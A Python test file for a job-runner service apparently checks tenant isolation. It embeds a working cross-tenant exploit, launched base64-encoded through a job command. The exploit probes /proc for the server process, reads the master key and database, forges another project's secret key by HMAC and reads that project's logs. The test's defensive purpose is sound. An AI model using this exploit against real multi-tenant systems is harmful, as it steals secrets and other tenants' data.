"""Tenants stay apart on the local executor: a job cannot get at the server's secrets (issue 14).

The attack of the issue, run as a real job of project B through a real `jobtail serve`: find the
server through /proc, read the master key and the database in the data directory, derive the
secret key of project A's admin access key (SK = HMAC(master key, AK)) and read A's log with it.
"""

from __future__ import annotations

import base64
import json
import re
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from support.jobs import PY, TERMINAL
from support.serve import clean_env, free_port, jobtail, wait_until_serving

from jobtail.client import Client, Credentials

EXPLOIT = r'''
import base64, glob, hashlib, hmac, os
target = os.environ
data_dir = target["TARGET_DATA_DIR"]
servers = []
for path in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        argv = open(path, "rb").read().split(b"\0")
    except OSError:
        continue
    if b"jobtail" in argv and b"serve" in argv:
        pid = path.split("/")[2]
        try:
            open(f"/proc/{pid}/environ", "rb").read()
            open(f"/proc/{pid}/maps", "rb").read()
            servers.append(pid)
        except OSError:
            pass
print("server processes:", len(servers), flush=True)
try:
    master = bytes.fromhex(open(os.path.join(data_dir, "master.key")).read().strip())
    print("master key: read", flush=True)
except OSError as exc:
    master = None
    print("master key:", type(exc).__name__, flush=True)
try:  # the file's bytes (SQLite's own locks must not be touched: the server is using it)
    stored = b"".join(open(os.path.join(data_dir, name), "rb").read() for name in ("jobtail.db", "jobtail.db-wal")
                      if name == "jobtail.db" or os.path.exists(os.path.join(data_dir, name)))
    print("database: read,", "holds" if target["TARGET_AK"].encode() in stored else "lacks", "the access key", flush=True)
except OSError as exc:
    print("database:", type(exc).__name__, flush=True)
if master is None:
    print("preview: no key", flush=True)
else:
    digest = hmac.new(master, b"jobtail-sk:" + target["TARGET_AK"].encode(), hashlib.sha256).digest()
    sk = base64.b32encode(digest[:25]).decode()
    from huaweicloudsdkcore.auth.credentials import BasicCredentials
    from huaweicloudsdkcore.exceptions.exceptions import ClientRequestException
    from huaweicloudsdkmodelarts.v1 import ModelArtsClient, ShowTrainingJobLogsPreviewRequest
    client = (ModelArtsClient.new_builder().with_credentials(BasicCredentials(target["TARGET_AK"], sk, target["TARGET_PROJECT"]))
              .with_endpoints([target["TARGET_URL"]]).build())
    try:
        r = client.show_training_job_logs_preview(
            ShowTrainingJobLogsPreviewRequest(training_job_id=target["TARGET_JOB"], task_id="worker-0"))
        print("preview:", 200, repr(r.content), flush=True)
    except ClientRequestException as exc:
        print("preview:", exc.status_code, flush=True)
'''


def exploit_command() -> str:
    """The exploit as a tenant sends it: all in the command, nothing placed on the server."""
    encoded = base64.b64encode(EXPLOIT.encode()).decode()
    return f"{PY} -c 'import base64; exec(base64.b64decode(\"{encoded}\"))'"


@contextmanager
def serving(data_dir: Path, *options: str) -> Iterator[str]:
    """`jobtail serve` with its defaults (SQLite and the master key in `data_dir`); its URL."""
    port = free_port()
    argv = [sys.executable, "-m", "jobtail", "serve", "--data-dir", str(data_dir), "--port", str(port),
            "--log-level", "warning", *options]
    output = data_dir.parent / f"serve-{port}.log"
    with open(output, "wb") as sink:
        server = subprocess.Popen(argv, env=clean_env(), stdout=sink, stderr=sink)
    url = f"http://127.0.0.1:{port}"
    try:
        wait_until_serving(url, server, output=output.read_text)
        yield url
    except Exception as exc:
        raise AssertionError(f"{exc}\n--- the server said:\n{output.read_text()[-6000:]}") from exc
    finally:
        server.send_signal(signal.SIGTERM)
        server.wait(timeout=60)
    assert "Traceback" not in output.read_text(), output.read_text()


def run_job(client: Client, name: str, command: str, environments: dict[str, str] | None = None) -> tuple[str, str]:
    """Submit a one-task job, wait until it ends; (phase, its log)."""
    body = {"kind": "job", "metadata": {"name": name},
            "algorithm": {"command": command, "environments": environments or {}},
            "spec": {"resource": {"node_count": 1}}}
    job_id = client.json("POST", "/v2/{project_id}/training-jobs", json=body)["metadata"]["id"]
    deadline = time.monotonic() + 60
    while (job := client.json("GET", f"/v2/{{project_id}}/training-jobs/{job_id}"))["status"]["phase"] not in TERMINAL:
        assert time.monotonic() < deadline, f"job {name} never ended"
        time.sleep(0.05)
    log = client.json("GET", f"/v2/{{project_id}}/training-jobs/{job_id}/tasks/worker-0/logs/preview")["content"]
    return job["status"]["phase"], log


def attack(data_dir: Path, url: str) -> str:
    """Project A (the first start's default project) has a job whose log holds a secret; a
    developer of a new project B runs the exploit. Returns the log of B's job."""
    admin = json.loads((data_dir / "credentials.json").read_text())
    with Client(url, credentials=Credentials(admin["access_key"], admin["secret_key"], admin["project_id"], url)) as victim:
        phase, _ = run_job(victim, "victim", "echo the secret of project A")
        assert phase == "Completed"
        job_id = victim.json("POST", "/v2/{project_id}/training-job-searches", json={})["items"][0]["metadata"]["id"]
    project_b = jobtail("admin", "project", "create", "tenant-b", "--data-dir", str(data_dir)).strip()
    issued = json.loads(jobtail("admin", "credential", "create", "--project", project_b, "--role", "developer",
                                "--json", "--data-dir", str(data_dir)))
    with Client(url, credentials=Credentials(issued["access_key"], issued["secret_key"], project_b, url)) as attacker:
        _, log = run_job(attacker, "exploit", exploit_command(), {
            "TARGET_URL": url, "TARGET_PROJECT": admin["project_id"], "TARGET_AK": admin["access_key"],
            "TARGET_JOB": job_id, "TARGET_DATA_DIR": str(data_dir)})
    return log


def test_a_job_cannot_read_the_server_secrets_nor_sign_as_another_project(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    with serving(data_dir) as url:
        log = attack(data_dir, url)
    assert "server processes: 0\n" in log, log
    assert re.search(r"^master key: (FileNotFoundError|PermissionError)$", log, re.M), log
    assert re.search(r"^database: (FileNotFoundError|PermissionError)$", log, re.M), log
    assert "preview: no key\n" in log, log
    assert "the secret of project A" not in log


def test_without_isolation_the_exploit_works_as_the_issue_reports(tmp_path: Path) -> None:
    """`--executor-isolation none` keeps the old behaviour: for one tenant only (README)."""
    data_dir = tmp_path / "data"
    with serving(data_dir, "--executor-isolation", "none") as url:
        log = attack(data_dir, url)
    assert re.search(r"^server processes: [1-9]", log, re.M), log
    assert "master key: read\n" in log and "database: read, holds the access key\n" in log, log
    assert re.search(r"^preview: 200 '.*the secret of project A", log, re.M), log
